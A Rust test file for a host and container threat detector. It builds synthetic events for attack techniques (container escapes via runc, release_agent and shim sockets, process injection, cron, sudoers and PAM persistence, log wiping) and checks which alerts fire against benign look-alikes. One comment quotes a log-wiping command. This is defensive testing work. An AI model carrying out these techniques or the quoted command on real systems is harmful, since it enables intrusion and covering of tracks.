//! Table tests of the behavioural types: one firing case per type and its benign look-alikes.

use std::{path::PathBuf, sync::Arc};

use vigil_detection::{FindingType, SharedIntel, ThreatIntel};

use super::{behaviour::Place, *};
use crate::{
    container::{Container, Runtime as ContainerRuntime},
    event::{ActivityInfo, ExecInfo, FileInfo, NetInfo, ProcessRef, Writer},
    sensitive::{Category, MatchKind},
};

fn detector() -> Detector {
    let mut sensitive = SensitivePaths::default();
    sensitive
        .add("/srv/watched/", MatchKind::Prefix, Category::Persistence)
        .unwrap();
    Detector::new(
        Arc::new(SharedIntel::new(ThreatIntel::empty())),
        None,
        RuleSet::builtin_shared(),
        Vec::new(),
        DetectorConfig {
            host: HostDetails {
                hostname: "node-a".into(),
                ..HostDetails::default()
            },
            ..DetectorConfig::default()
        },
        Clock::with_offset(1_700_000_000_000_000_000),
    )
    .with_sensitive_paths(sensitive)
}

fn container() -> Option<Container> {
    Some(Container {
        id: "cd".repeat(32),
        runtime: ContainerRuntime::Docker,
        pod_uid: None,
        cgroup: "/system.slice/docker-x.scope".into(),
        described: None,
    })
}

fn proc_ref(pid: u32, comm: &str) -> ProcessRef {
    ProcessRef {
        pid,
        tid: pid,
        ppid: 100,
        comm: comm.into(),
        start_time_ns: u64::from(pid) * 1000,
        uuid: format!("uuid-{pid}"),
        host_namespaces: true,
        ..ProcessRef::default()
    }
}

/// A file's writer: `ld` is pid [`LD`], which [`Known`] says is `/usr/bin/ld`; any other is a
/// process the lookup does not know.
fn writer(comm: &str) -> Writer {
    Writer {
        pid: if comm == "ld" { LD } else { 78 },
        uid: 1000,
        comm: comm.into(),
        time: "2026-11-27T09:59:00Z".into(),
    }
}

fn exec_event(exe: &str, f: impl FnOnce(&mut ExecInfo)) -> Event {
    let mut e = ExecInfo {
        time: "2026-11-27T10:00:00Z".into(),
        process: proc_ref(4242, super::basename(exe)),
        filename: exe.into(),
        exe: PathBuf::from(exe),
        argv: vec![exe.into()],
        argv_truncated: false,
        argv_tail: false,
        cwd: Some(PathBuf::from("/tmp")),
        cwd_truncated: false,
        exe_inode: 1,
        exe_dev: 1,
        sha256: None,
        sha256_error: None,
        lineage: Vec::new().into(),
        fileless: false,
        exe_deleted: false,
        host_root: false,
        written_by: None,
        changed_untracked: None,
        stdin_script: None,
        script_written_by: None,
        stdio_sockets: Vec::new(),
        stdin: None,
        stdin_pipe: None,
        stdout_pipe: None,
        fd_pipes: Vec::new(),
        input_fifo: None,
        ld_preload: None,
        ld_audit: None,
        ld_audit_unread: false,
        ld_library_path: None,
        env_truncated: false,
        glibc_tunables: false,
        setuid: false,
        script_evals: Vec::new(),
        script_lines: Vec::new(),
        argv0_empty: false,
        exe_set_id: false,
    };
    f(&mut e);
    Event::Exec(Box::new(e))
}

fn file_event(operation: &'static str, path: &str, f: impl FnOnce(&mut FileInfo)) -> Event {
    let mut e = FileInfo {
        time: "2026-11-27T10:00:00Z".into(),
        process: proc_ref(5000, "sh"),
        operation,
        path: path.into(),
        resolved_path: Some(PathBuf::from(path)),
        path2: None,
        resolved_path2: None,
        ret: 3,
        error: None,
        open_flags: (operation == "openWrite").then(|| "1101".into()),
        mode: None,
        owner: None,
        inode: Some(9),
        matched_by: vec!["prefix"],
        proc_mem_pid: None,
        sysctl_value: None,
        sysctl_setting: None,
        sysctl_by_hook: false,
        git_config: None,
        sysctl_file: None,
        accounts_changed: None,
        hashes_owner: None,
        program_written: None,
        written_by: None,
        truncated: false,
    };
    f(&mut e);
    Event::File(e)
}

fn activity(operation: &'static str, f: impl FnOnce(&mut ActivityInfo)) -> Event {
    let mut a = ActivityInfo {
        time: "2026-11-27T10:00:00Z".into(),
        process: proc_ref(6000, "tool"),
        operation,
        ..ActivityInfo::default()
    };
    f(&mut a);
    Event::Activity(a)
}

/// Programs the pipeline's table knows, by pid, with the executable the kernel recorded:
/// exemptions of the technique checks go by executable, never by comm.
struct Known;

/// Pids of [`Known`] programs.
const DPKG: u32 = 5101;
const SYSTEMCTL: u32 = 5102;
const LOGROTATE: u32 = 5103;
const BASH: u32 = 5104;
const CRIU: u32 = 5105;
const RUNC: u32 = 5106;
const USERADD: u32 = 5107;
const SSHD: u32 = 5108;
const KUBELET: u32 = 5109;
const CONTAINERD: u32 = 5110;
const SUDO: u32 = 5111;
const EXIM: u32 = 5112;
const VISUDO: u32 = 5113;
const UPDATE_ALTERNATIVES: u32 = 5114;
const KUBEADM: u32 = 5115;
/// The writer of [`writer`]'s files.
const LD: u32 = 77;

impl ProcessLookup for Known {
    fn get(&self, pid: u32) -> Option<KnownProcess> {
        let exe = match pid {
            DPKG => "/usr/bin/dpkg",
            SYSTEMCTL => "/usr/bin/systemctl",
            LOGROTATE => "/usr/sbin/logrotate",
            BASH => "/usr/bin/bash",
            CRIU => "/usr/sbin/criu",
            RUNC => "/usr/bin/runc",
            USERADD => "/usr/sbin/useradd",
            SSHD => "/usr/sbin/sshd",
            KUBELET => "/usr/bin/kubelet",
            CONTAINERD => "/usr/bin/containerd",
            SUDO => "/usr/bin/sudo",
            EXIM => "/usr/sbin/exim4",
            VISUDO => "/usr/sbin/visudo",
            UPDATE_ALTERNATIVES => "/usr/bin/update-alternatives",
            KUBEADM => "/usr/bin/kubeadm",
            LD => "/usr/bin/ld",
            _ => return None,
        };
        Some(KnownProcess {
            pid,
            ppid: 1,
            start_time_ns: u64::from(pid) * 1000,
            comm: super::basename(exe).into(),
            exe: Some(PathBuf::from(exe)),
            sha256: None,
            cwd: None,
            uid: 0,
            euid: 0,
        })
    }
}

/// A process the [`Known`] table knows.
fn known(pid: u32) -> ProcessRef {
    let comm = Known.get(pid).map(|k| k.comm).unwrap_or_default();
    proc_ref(pid, &comm)
}

fn types(d: &mut Detector, event: &Event) -> Vec<String> {
    d.process(event, &Known)
        .into_iter()
        .map(|o| o.finding.finding_type)
        .collect()
}

/// One event and the types it must raise (empty: none).
type Case = (&'static str, Event, &'static [FindingType]);

#[test]
fn every_behavioural_type_fires_on_its_case_and_not_on_the_benign_ones() {
    use FindingType as T;

    use super::accounts::{AccountChanges, AdminMember, Passwordless};
    let cases: Vec<Case> = vec![
        (
            "binary written by cp, then run, in a container",
            exec_event("/app/dropper", |e| {
                e.written_by = Some(writer("cp"));
                e.process.container = container();
            }),
            &[T::ExecutionNewBinaryExecuted],
        ),
        (
            "binary written by cp, then run, on the host (GuardDuty: containers only)",
            exec_event("/home/dev/dropper", |e| e.written_by = Some(writer("cp"))),
            &[],
        ),
        (
            "binary linked by ld on the host (build output)",
            exec_event("/home/dev/a.out", |e| e.written_by = Some(writer("ld"))),
            &[],
        ),
        (
            "binary linked by ld inside a container (drift from the image)",
            exec_event("/app/a.out", |e| {
                e.written_by = Some(writer("ld"));
                e.process.container = container();
            }),
            &[T::ExecutionNewBinaryExecuted],
        ),
        (
            "binary changed in a container after the written-files table evicted its writer",
            exec_event("/app/dropper", |e| {
                e.changed_untracked = Some("2026-12-05T06:00:00Z".into());
                e.process.container = container();
            }),
            &[T::ExecutionNewBinaryExecuted],
        ),
        (
            "binary changed on the host, writer evicted (GuardDuty: containers only)",
            exec_event("/home/dev/dropper", |e| {
                e.changed_untracked = Some("2026-12-05T06:00:00Z".into());
            }),
            &[],
        ),
        ("an old binary", exec_event("/usr/bin/true", |_| {}), &[]),
        (
            "memfd exec",
            exec_event("/memfd:x (deleted)", |e| e.fileless = true),
            &[T::DefenseEvasionFilelessExecution],
        ),
        (
            "deleted exe",
            exec_event("/home/dev/gone", |e| e.exe_deleted = true),
            &[T::DefenseEvasionFilelessExecution],
        ),
        (
            "a container process whose root is the host's (chroot /host)",
            exec_event("/usr/bin/bash", |e| {
                e.host_root = true;
                e.process.container = container();
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "a container process whose root is its own",
            exec_event("/usr/bin/bash", |e| e.process.container = container()),
            &[],
        ),
        (
            "a host process (its root is the host's by nature)",
            exec_event("/usr/bin/bash", |e| e.host_root = true),
            &[],
        ),
        (
            "library written by cp, mapped executable, in a container",
            activity("libraryLoad", |a| {
                a.inode = Some(55);
                a.written_by = Some(writer("cp"));
                a.process.container = container();
            }),
            &[T::ExecutionNewLibraryLoaded],
        ),
        (
            "library written by pip on the host (GuardDuty: containers only)",
            activity("libraryLoad", |a| {
                a.inode = Some(55);
                a.written_by = Some(writer("pip"));
            }),
            &[],
        ),
        (
            "library linked by ld on the host",
            activity("libraryLoad", |a| a.written_by = Some(writer("ld"))),
            &[],
        ),
        (
            "another process's memory opened for writing",
            file_event("openWrite", "/proc/77/mem", |f| {
                f.matched_by = vec!["procMem"];
                f.proc_mem_pid = Some(77);
            }),
            &[T::DefenseEvasionProcessInjectionProc],
        ),
        (
            "another process's memory opened for reading and writing (gdb, gcore)",
            file_event("openWrite", "/proc/77/task/77/mem", |f| {
                f.matched_by = vec!["procMem"];
                f.proc_mem_pid = Some(77);
                f.open_flags = Some("2000002".into());
            }),
            &[
                T::DefenseEvasionProcessInjectionProc,
                T::CredentialAccessMemoryDumpCreated,
            ],
        ),
        (
            "own memory (/proc/self/mem)",
            file_event("openWrite", "/proc/self/mem", |f| {
                f.matched_by = vec!["procMem"];
            }),
            &[],
        ),
        (
            "own memory by pid",
            file_event("openWrite", "/proc/5000/mem", |f| {
                f.matched_by = vec!["procMem"];
                f.proc_mem_pid = Some(5000);
            }),
            &[],
        ),
        (
            "ptrace attach",
            activity("ptrace", |a| {
                a.request = Some("PTRACE_ATTACH".into());
                a.target_pid = Some(77);
            }),
            &[T::DefenseEvasionProcessInjectionPtrace],
        ),
        (
            "ptrace poke",
            activity("ptrace", |a| {
                a.request = Some("PTRACE_POKETEXT".into());
                a.target_pid = Some(77);
            }),
            &[T::DefenseEvasionProcessInjectionPtrace],
        ),
        (
            "refused attach (the attempt counts)",
            activity("ptrace", |a| {
                a.request = Some("PTRACE_ATTACH".into());
                a.target_pid = Some(1);
                a.ret = -1;
                a.error = Some("EPERM".into());
            }),
            &[T::DefenseEvasionProcessInjectionPtrace],
        ),
        (
            "PEEKUSER of another process (GuardDuty's tester)",
            activity("ptrace", |a| {
                a.request = Some("PTRACE_PEEKUSER".into());
                a.target_pid = Some(77);
            }),
            &[T::DefenseEvasionProcessInjectionPtrace],
        ),
        (
            "traceme",
            activity("ptrace", |a| a.request = Some("PTRACE_TRACEME".into())),
            &[T::DefenseEvasionPtraceAntiDebugging],
        ),
        (
            "vm write into another",
            activity("processVmWritev", |a| {
                a.target_pid = Some(77);
                a.ret = 8;
            }),
            &[T::DefenseEvasionProcessInjectionVirtualMemoryWrite],
        ),
        (
            "vm write that failed (the attempt counts)",
            activity("processVmWritev", |a| {
                a.target_pid = Some(77);
                a.ret = -14;
                a.error = Some("EFAULT".into());
            }),
            &[T::DefenseEvasionProcessInjectionVirtualMemoryWrite],
        ),
        (
            "vm write into itself",
            activity("processVmWritev", |a| {
                a.target_pid = Some(6000);
                a.ret = 8;
            }),
            &[],
        ),
        (
            "vm read from another (a dump)",
            activity("processVmReadv", |a| {
                a.target_pid = Some(77);
                a.ret = 8;
            }),
            &[T::CredentialAccessMemoryDumpCreated],
        ),
        (
            "vm read that failed (the attempt counts)",
            activity("processVmReadv", |a| {
                a.target_pid = Some(1);
                a.ret = -1;
                a.error = Some("EPERM".into());
            }),
            &[T::CredentialAccessMemoryDumpCreated],
        ),
        (
            "vm read from itself",
            activity("processVmReadv", |a| {
                a.target_pid = Some(6000);
                a.ret = 8;
            }),
            &[],
        ),
        (
            "userfaultfd",
            activity("userfaultfd", |a| a.ret = 3),
            &[T::PrivilegeEscalationUserfaultfdUsage],
        ),
        (
            "userfaultfd refused to an unprivileged process (the attempt counts)",
            activity("userfaultfd", |a| {
                a.ret = -1;
                a.error = Some("EPERM".into());
                a.process.uid = 65534;
                a.process.euid = 65534;
            }),
            &[T::PrivilegeEscalationUserfaultfdUsage],
        ),
        (
            "userfaultfd by criu",
            activity("userfaultfd", |a| {
                a.ret = 3;
                a.process = known(CRIU);
            }),
            &[],
        ),
        (
            "userfaultfd by a program that only calls itself criu (comm)",
            activity("userfaultfd", |a| {
                a.ret = 3;
                a.process.comm = "criu".into();
            }),
            &[T::PrivilegeEscalationUserfaultfdUsage],
        ),
        (
            "a binary run from /dev/shm deleted while it runs (the pipeline's watch)",
            activity("executableDeleted", |a| {
                a.name = Some("/dev/shm/payload".into());
                a.inode = Some(77);
            }),
            &[T::DefenseEvasionFilelessExecution],
        ),
        (
            "finit_module",
            activity("finitModule", |a| a.name = Some("evil.ko".into())),
            &[T::DefenseEvasionKernelModuleLoaded],
        ),
        (
            "init_module",
            activity("initModule", |_| {}),
            &[T::DefenseEvasionKernelModuleLoaded],
        ),
        (
            "refused module",
            activity("finitModule", |a| a.ret = -1),
            &[],
        ),
        (
            "bind mount of a host directory in a container",
            activity("mount", |a| {
                a.process.container = container();
                a.source = Some("/etc".into());
                a.target = Some("/mnt/host-etc".into());
                a.flags = Some(0x1000);
            }),
            &[T::PrivilegeEscalationContainerMountsHostDirectory],
        ),
        (
            "host disk mounted in a container",
            activity("mount", |a| {
                a.process.container = container();
                a.source = Some("/dev/sda1".into());
                a.target = Some("/mnt".into());
                a.fs_type = Some("ext4".into());
                a.flags = Some(0);
            }),
            &[T::PrivilegeEscalationContainerMountsHostDirectory],
        ),
        (
            // runc 1.1 protects its binary (CVE-2019-5736) by bind-mounting /proc/self/exe
            // read-only over a file in its state directory, as `runc init` (comm `exe`, from
            // its re-exec of /proc/self/exe), already in the container's cgroup.
            "runc's bind mount of its own executable at container start and exec",
            activity("mount", |a| {
                a.process.container = container();
                a.process.comm = "exe".into();
                a.source = Some("/proc/self/exe".into());
                a.target = Some("/run/runc/6f21f966/runc.8VlunF".into());
                a.flags = Some(0x1000);
            }),
            &[],
        ),
        (
            // GuardDuty's tester: a file system type that does not exist, refused.
            "refused mount of a host path in a container",
            activity("mount", |a| {
                a.process.container = container();
                a.source = Some("/etc/".into());
                a.target = Some("/tmp/".into());
                a.fs_type = Some("tempfs-test".into());
                a.flags = Some(0);
                a.ret = -19;
                a.error = Some("ENODEV".into());
            }),
            &[T::PrivilegeEscalationContainerMountsHostDirectory],
        ),
        (
            "a file opened by handle in a container (Shocker)",
            activity("openByHandleAt", |a| {
                a.process.container = container();
                a.handle = Some("type 1, 8 bytes: 0200000000000000".into());
                a.name = Some("/".into());
                a.inode = Some(2);
                a.ret = 3;
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "a file open by handle refused in a container (the attempt)",
            activity("openByHandleAt", |a| {
                a.process.container = container();
                a.handle = Some("type 1, 8 bytes: 0200000000000000".into());
                a.ret = -1;
                a.error = Some("EPERM".into());
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "a file opened by handle on the host (fanotify tools, NFS servers)",
            activity("openByHandleAt", |a| {
                a.handle = Some("type 1, 8 bytes: 0200000000000000".into());
                a.ret = 3;
            }),
            &[],
        ),
        (
            "a file opened by handle by runc in a container's cgroup",
            activity("openByHandleAt", |a| {
                a.process = known(RUNC);
                a.process.container = container();
                a.ret = 3;
            }),
            &[],
        ),
        (
            "a block device made in a container",
            activity("mknod", |a| {
                a.process.container = container();
                a.target = Some("/tmp/disk".into());
                a.device = Some("8:0".into());
                a.flags = Some(0o60600);
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "a block device refused in a container (no CAP_MKNOD: the attempt)",
            activity("mknod", |a| {
                a.process.container = container();
                a.target = Some("/dev/sda".into());
                a.device = Some("8:0".into());
                a.ret = -1;
                a.error = Some("EPERM".into());
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "a block device made by runc for a privileged container",
            activity("mknod", |a| {
                a.process = known(RUNC);
                a.process.container = container();
                a.target = Some("/dev/vda".into());
                a.device = Some("254:0".into());
            }),
            &[],
        ),
        (
            "a thread renamed to a kernel thread's name",
            activity("rename", |a| {
                a.source = Some("python3".into());
                a.name = Some("kworker/1:1".into());
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "a thread renamed to a bracketed name",
            activity("rename", |a| {
                a.source = Some("x".into());
                a.name = Some("[kthreadd]".into());
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "a thread named after its work (a runtime's worker)",
            activity("rename", |a| {
                a.source = Some("app".into());
                a.name = Some("tokio-runtime-w".into());
            }),
            &[],
        ),
        (
            "a rename that failed",
            activity("rename", |a| {
                a.source = Some("python3".into());
                a.name = Some("kswapd0".into());
                a.ret = -14;
            }),
            &[],
        ),
        (
            "a program already named like a kernel thread renaming its threads (judged at its exec)",
            activity("rename", |a| {
                a.source = Some("kworker".into());
                a.name = Some("kworker/0:1".into());
            }),
            &[],
        ),
        (
            "a block device made on the host (LVM, dmsetup mknodes)",
            activity("mknod", |a| {
                a.target = Some("/dev/mapper/vg-root".into());
                a.device = Some("253:0".into());
            }),
            &[],
        ),
        (
            "refused remount in a container",
            activity("mount", |a| {
                a.process.container = container();
                a.source = Some("/data".into());
                a.target = Some("/data".into());
                a.flags = Some(0x20 | 0x1000 | 0x1);
                a.ret = -1;
                a.error = Some("EPERM".into());
            }),
            &[],
        ),
        (
            "refused tmpfs in a container",
            activity("mount", |a| {
                a.process.container = container();
                a.source = Some("tmpfs".into());
                a.target = Some("/mnt".into());
                a.fs_type = Some("tmpfs".into());
                a.flags = Some(0);
                a.ret = -1;
                a.error = Some("EPERM".into());
            }),
            &[],
        ),
        (
            "refused mount of a host path on the host",
            activity("mount", |a| {
                a.source = Some("/etc/".into());
                a.target = Some("/tmp/".into());
                a.fs_type = Some("tempfs-test".into());
                a.flags = Some(0);
                a.ret = -19;
            }),
            &[],
        ),
        (
            "tmpfs in a container",
            activity("mount", |a| {
                a.process.container = container();
                a.source = Some("tmpfs".into());
                a.target = Some("/mnt".into());
                a.fs_type = Some("tmpfs".into());
                a.flags = Some(0);
            }),
            &[],
        ),
        (
            "propagation change in a container",
            activity("mount", |a| {
                a.process.container = container();
                a.source = Some("none".into());
                a.target = Some("/".into());
                a.flags = Some(0x4000 | 0x40000);
            }),
            &[],
        ),
        (
            "runc setting up the container's volumes",
            activity("mount", |a| {
                a.process = known(RUNC);
                a.process.container = container();
                a.source = Some("/var/lib/docker/volumes/v/_data".into());
                a.target = Some("/data".into());
                a.flags = Some(0x1000);
            }),
            &[],
        ),
        (
            "bind mount on the host",
            activity("mount", |a| {
                a.source = Some("/etc".into());
                a.target = Some("/mnt".into());
                a.flags = Some(0x1000);
            }),
            &[],
        ),
        (
            "docker socket from a container",
            Event::Connect(unix_connect("/run/docker.sock", container())),
            &[T::PrivilegeEscalationDockerSocketAccessed],
        ),
        (
            "docker socket from the host",
            Event::Connect(unix_connect("/run/docker.sock", None)),
            &[],
        ),
        (
            "another socket from a container",
            Event::Connect(unix_connect("/run/app.sock", container())),
            &[],
        ),
        (
            "a containerd shim's abstract socket from a container on the host's network \
             (CVE-2020-15257, CDK's shim-pwn)",
            Event::Connect(unix_connect(
                "@/containerd-shim/moby/0123abcd/shim.sock",
                container(),
            )),
            &[T::PrivilegeEscalationDockerSocketAccessed],
        ),
        (
            "a shim's socket under /run/containerd/s/ from a container",
            Event::Connect(unix_connect("/run/containerd/s/9f2c", container())),
            &[T::PrivilegeEscalationDockerSocketAccessed],
        ),
        (
            "containerd reaching its shim, on the host",
            Event::Connect(unix_connect(
                "@/containerd-shim/moby/0123abcd/shim.sock",
                None,
            )),
            &[],
        ),
        (
            "another abstract socket from a container (D-Bus, X11)",
            Event::Connect(unix_connect("@/tmp/.X11-unix/X0", container())),
            &[],
        ),
        (
            "a name that only begins like the shims' prefix",
            Event::Connect(unix_connect("@/containerd-shimmer.sock", container())),
            &[],
        ),
        (
            "docker socket chmod from a container",
            file_event("chmod", "/var/run/docker.sock", |f| {
                f.process.container = container();
            }),
            &[T::PrivilegeEscalationDockerSocketAccessed],
        ),
        (
            "runc overwritten",
            file_event("openWrite", "/usr/bin/runc", |_| {}),
            &[T::PrivilegeEscalationRuncContainerEscape],
        ),
        (
            "runc overwrite refused (still the attempt)",
            file_event("openWrite", "/usr/local/sbin/runc", |f| {
                f.ret = -26;
                f.error = Some("ETXTBSY".into());
            }),
            &[T::PrivilegeEscalationRuncContainerEscape],
        ),
        (
            "runc upgraded by dpkg",
            file_event("rename", "/usr/bin/runc.dpkg-new", |f| {
                f.process = known(DPKG);
                f.path2 = Some("/usr/bin/runc".into());
                f.resolved_path2 = Some(PathBuf::from("/usr/bin/runc"));
            }),
            &[],
        ),
        (
            "release_agent removed with a container's layer (no cgroupfs file can be removed)",
            file_event(
                "unlink",
                "/var/lib/containers/storage/overlay/0f3f/diff/release_agent",
                |f| f.ret = 0,
            ),
            &[],
        ),
        (
            "release_agent written",
            file_event("openWrite", "/sys/fs/cgroup/rdma/release_agent", |_| {}),
            &[T::PrivilegeEscalationCGroupsReleaseAgentModified],
        ),
        (
            "cron file",
            file_event("openWrite", "/etc/cron.d/evil", |_| {}),
            &[
                T::PersistenceSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
        (
            "sudoers",
            file_event("openWrite", "/etc/sudoers.d/90-evil", |_| {}),
            &[
                T::PrivilegeEscalationSensitiveFileModified,
                T::PrivilegeEscalationSuspiciousCommand,
            ],
        ),
        (
            "the doas policy written",
            file_event("openWrite", "/etc/doas.conf", |f| {
                f.matched_by = vec!["exact"]
            }),
            &[
                T::PrivilegeEscalationSensitiveFileModified,
                T::PrivilegeEscalationSuspiciousCommand,
            ],
        ),
        (
            "a polkit rule written",
            file_event("openWrite", "/etc/polkit-1/rules.d/99-evil.rules", |_| {}),
            &[
                T::PrivilegeEscalationSensitiveFileModified,
                T::PrivilegeEscalationSuspiciousCommand,
            ],
        ),
        (
            "a polkit rule installed by dpkg",
            file_event(
                "openWrite",
                "/usr/share/polkit-1/rules.d/org.freedesktop.x.rules",
                |f| f.process = known(DPKG),
            ),
            &[],
        ),
        (
            "a PAM module dropped into the module directory",
            file_event(
                "openWrite",
                "/usr/lib/x86_64-linux-gnu/security/pam_evil.so",
                |_| {},
            ),
            &[
                T::PersistenceSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
        (
            "a PAM service configuration written",
            file_event("openWrite", "/etc/pam.d/evil", |_| {}),
            &[
                T::PrivilegeEscalationSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
        (
            "a PAM module installed by dpkg",
            file_event(
                "openWrite",
                "/usr/lib/x86_64-linux-gnu/security/pam_x.so",
                |f| f.process = known(DPKG),
            ),
            &[],
        ),
        (
            "a process hidden by a bind mount over its /proc directory",
            activity("mount", |a| {
                a.source = Some("/tmp/empty".into());
                a.target = Some("/proc/4242".into());
                a.flags = Some(0x1000);
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "the same with a path that hides the pid's directory behind . and //",
            activity("mount", |a| {
                a.source = Some("/tmp/empty".into());
                a.target = Some("/proc//4242/.".into());
                a.flags = Some(0x1000);
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "proc mounted on /proc",
            activity("mount", |a| {
                a.source = Some("proc".into());
                a.target = Some("/proc".into());
                a.fs_type = Some("proc".into());
                a.flags = Some(0);
            }),
            &[],
        ),
        (
            "binfmt_misc under /proc/sys",
            activity("mount", |a| {
                a.source = Some("binfmt_misc".into());
                a.target = Some("/proc/sys/fs/binfmt_misc".into());
                a.fs_type = Some("binfmt_misc".into());
                a.flags = Some(0);
            }),
            &[],
        ),
        (
            "a refused mount over a pid's directory",
            activity("mount", |a| {
                a.source = Some("/tmp/empty".into());
                a.target = Some("/proc/4242".into());
                a.flags = Some(0x1000);
                a.ret = -1;
            }),
            &[],
        ),
        (
            "the sudo policy replaced by visudo",
            file_event("rename", "/etc/sudoers.tmp", |f| {
                f.process = known(VISUDO);
                f.matched_by = vec!["exact"];
                f.path2 = Some("/etc/sudoers".into());
                f.resolved_path2 = Some(PathBuf::from("/etc/sudoers"));
            }),
            &[T::PrivilegeEscalationSensitiveFileModified],
        ),
        (
            "a sudoers.d file installed by dpkg",
            file_event("openWrite", "/etc/sudoers.d/README", |f| {
                f.process = known(DPKG);
            }),
            &[],
        ),
        (
            "the dynamic loader written",
            file_event(
                "openWrite",
                "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
                |f| {
                    f.matched_by = vec!["name"];
                    f.open_flags = Some("2001".into());
                },
            ),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::DefenseEvasionSuspiciousCommand,
            ],
        ),
        (
            "the dynamic loader unpacked and renamed into place by dpkg (a libc upgrade)",
            file_event(
                "rename",
                "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2.dpkg-new",
                |f| {
                    f.process = known(DPKG);
                    f.matched_by = vec!["name"];
                    f.path2 = Some("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2".into());
                    f.resolved_path2 = Some(PathBuf::from(
                        "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
                    ));
                },
            ),
            &[],
        ),
        (
            "the loader of an image layer a runtime unpacks (outside the library directories)",
            file_event(
                "openWrite",
                "/var/lib/containers/storage/overlay/0f3f/diff/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
                |f| {
                    f.matched_by = vec!["name"];
                },
            ),
            &[],
        ),
        (
            "a directory added to the loader's search path",
            file_event("openWrite", "/etc/ld.so.conf.d/zz.conf", |_| {}),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::DefenseEvasionSuspiciousCommand,
            ],
        ),
        (
            "a root certificate copied into the trust store's anchors (Caldera's T1553)",
            file_event(
                "openWrite",
                "/usr/local/share/ca-certificates/caldera.crt",
                |_| {},
            ),
            &[T::DefenseEvasionSensitiveFileModified],
        ),
        (
            "a root certificate renamed into Red Hat's anchors",
            file_event("rename", "/tmp/x.pem", |f| {
                f.path2 = Some("/etc/pki/ca-trust/source/anchors/x.pem".into());
                f.resolved_path2 = Some(PathBuf::from("/etc/pki/ca-trust/source/anchors/x.pem"));
            }),
            &[T::DefenseEvasionSensitiveFileModified],
        ),
        (
            "the packaged certificates updated by dpkg (ca-certificates)",
            file_event(
                "openWrite",
                "/usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt.dpkg-new",
                |f| {
                    f.process = known(DPKG);
                },
            ),
            &[],
        ),
        (
            "notify_on_release set from a container",
            file_event("openWrite", "/tmp/cg/x/notify_on_release", |f| {
                f.matched_by = vec!["name"];
                f.process.container = container();
                f.process.host_namespaces = false;
            }),
            &[T::PrivilegeEscalationCGroupsReleaseAgentModified],
        ),
        (
            "notify_on_release set on the host (init manages its hierarchies)",
            file_event(
                "openWrite",
                "/sys/fs/cgroup/systemd/x/notify_on_release",
                |f| {
                    f.matched_by = vec!["name"];
                },
            ),
            &[],
        ),
        (
            "passwd replaced by a rename",
            file_event("rename", "/tmp/passwd.new", |f| {
                f.path2 = Some("/etc/passwd".into());
                f.resolved_path2 = Some(PathBuf::from("/etc/passwd"));
            }),
            &[T::PrivilegeEscalationSensitiveFileModified],
        ),
        (
            "passwd by useradd",
            file_event("openWrite", "/etc/passwd", |f| {
                f.process = known(USERADD);
            }),
            &[],
        ),
        (
            "passwd by a program that only calls itself useradd (comm)",
            file_event("openWrite", "/etc/passwd", |f| {
                f.process.comm = "useradd".into();
            }),
            &[T::PrivilegeEscalationSensitiveFileModified],
        ),
        (
            "a cron file by a program that only calls itself dpkg (comm)",
            file_event("openWrite", "/etc/cron.d/job", |f| {
                f.process.comm = "dpkg".into();
            }),
            &[
                T::PersistenceSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
        (
            "a cron file by dpkg",
            file_event("openWrite", "/etc/cron.d/job", |f| {
                f.process = known(DPKG);
            }),
            &[],
        ),
        (
            "log truncated",
            file_event("openWrite", "/var/log/auth.log", |_| {}),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::DefenseEvasionSuspiciousCommand,
            ],
        ),
        (
            "log deleted",
            file_event("unlink", "/var/log/auth.log", |f| f.ret = 0),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::DefenseEvasionSuspiciousCommand,
            ],
        ),
        (
            // Atomic Red Team's T1070.002 #1 removes /var/log/system.log on Linux too.
            "another system log deleted",
            file_event("unlink", "/var/log/system.log", |f| f.ret = 0),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::DefenseEvasionSuspiciousCommand,
            ],
        ),
        (
            // T1070.002 #18: `echo 0> /var/spool/mail/root` (Debian's spool is /var/mail).
            "root's mail spool overwritten by a shell",
            file_event("openWrite", "/var/mail/root", |_| {}),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::DefenseEvasionSuspiciousCommand,
            ],
        ),
        (
            "mail delivered to a spool by exim",
            file_event("openWrite", "/var/mail/root", |f| {
                f.process = known(EXIM);
                f.open_flags = Some("2101".into());
            }),
            &[],
        ),
        (
            "a user's spool removed with the account",
            file_event("unlink", "/var/spool/mail/ann", |f| {
                f.process = known(USERADD);
                f.ret = 0;
            }),
            &[],
        ),
        (
            // Atomic Red Team's T1562.006 #2: `sed -i '$ a ...' /etc/rsyslog.conf` renames its
            // copy over the file.
            "the syslog configuration replaced by sed",
            file_event("rename", "/etc/sedAb12Cd", |f| {
                f.path2 = Some("/etc/rsyslog.conf".into());
                f.resolved_path2 = f.path2.as_deref().map(PathBuf::from);
                f.ret = 0;
            }),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::DefenseEvasionSuspiciousCommand,
            ],
        ),
        (
            "the audit configuration written by dpkg",
            file_event("openWrite", "/etc/libaudit.conf", |f| {
                f.process = known(DPKG);
            }),
            &[],
        ),
        (
            "an application's own log deleted",
